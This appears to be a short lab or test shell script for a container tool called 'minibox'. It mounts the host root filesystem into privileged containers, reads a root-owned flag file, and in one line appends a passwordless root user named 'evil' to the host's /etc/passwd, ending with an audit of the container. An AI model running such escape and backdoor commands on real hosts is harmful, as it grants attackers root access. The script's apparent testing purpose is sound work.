#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
minibox run --rm --userns host --allow-sensitive -v /:/host lab/box cat /host/root/flag
minibox run --rm --userns host --allow-sensitive -v /:/host lab/box sh -c 'echo ran; echo evil::0:0::/:/bin/sh >>/host/etc/passwd'
minibox run --rm --userns host --allow-sensitive -v /:/host:ro lab/box cat /host/root/flag
minibox run -d --name audited --userns host --allow-sensitive -v /:/host lab/box sleep 600
minibox audit audited
